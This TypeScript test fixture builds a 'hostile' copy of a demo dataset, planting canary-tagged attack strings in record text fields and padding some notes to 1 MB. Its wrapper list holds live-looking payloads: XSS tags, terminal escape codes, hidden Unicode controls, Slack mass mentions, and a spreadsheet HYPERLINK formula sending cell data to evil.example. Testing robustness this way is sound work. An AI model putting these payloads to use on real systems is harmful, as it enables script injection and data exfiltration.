import { type Json, Nation, type NationRecord, listPlaces, textOf } from '../engine/records';
import { servedTypes } from '../engine/served-types';
import { type HostileText, attack } from './hostile';

const RECORDS = 3;
const MEGABYTE = 1_000_000;

/** What surrounds an attack in turn: turned text, terminal commands and a null, markup, a Slack mention, a formula, nothing visible. */
const SURROUNDINGS: readonly (readonly [before: string, after: string])[] = [
  ['\u202e', '\u202c'],
  ['\u001b[2J\u0007', '\u0000'],
  ['<img src=x onerror=alert(1)>', '</textarea><script>alert(1)</script>'],
  ['<!channel> ', ' <@U0000001>'],
  ['=HYPERLINK("https://evil.example/?x="&A1) ', ''],
  ['\u200b\u2066', '\u2069\ufeff'],
];

/**
 * `hostile`: the nation `demo` once more, but three records of every type hold an attack in every text that the API answers,
 * each with the canary `CANARY-{type}-{id}-{attribute}`, and these people have notes of 1 MB. The demo users stay as they
 * are, and so do keys, times and figures. Untouched records are shared with `demo`: records are replaced and never changed.
 */
export function makeHostileNation(demo: Nation): { nation: Nation; hostileTexts: readonly HostileText[] } {
  const users = new Set(demo.users.values());
  const hostileTexts: HostileText[] = [];
  const start = [...servedTypes.keys()].map((type): [string, readonly NationRecord[]] => {
    const rows = demo.table(type).rows;
    const victims = rows.filter(row => type !== 'signups' || !users.has(row.id)).slice(0, RECORDS);
    const spoiled = new Map(victims.map(row => [row.id, spoil(type, row, hostileTexts)]));
    return [type, rows.map(row => spoiled.get(row.id) ?? row)];
  });
  const all = new Map([...start, [listPlaces, demo.table(listPlaces).rows]]);
  return { nation: new Nation('hostile', 'Hostile Nation', all, demo.users), hostileTexts };
}

/** A copy with an attack in every text; `planted` gets to know each. */
function spoil(type: string, record: NationRecord, planted: HostileText[]): NationRecord {
  const copy: Record<string, Json | undefined> = { ...record };
  const plant = (attribute: string): string => {
    const index = planted.length;
    const canary = `CANARY-${type}-${record.id}-${attribute}`;
    const [before, after] = SURROUNDINGS[index % SURROUNDINGS.length] ?? ['', ''];
    planted.push({ type, id: record.id, attribute, canary });
    return `${before}${attack(index, canary)}${after}`;
  };
  for (const { name, kind } of servedTypes.get(type)?.readable ?? []) if (kind === 'text') copy[name] = plant(name);
  if (type === 'signups') {
    copy.custom_values = { how_did_you_hear: plant('custom_values') };
    copy.note = textOf(copy.note).padEnd(MEGABYTE, ' and on and on');
  }
  return { ...copy, id: record.id };
}
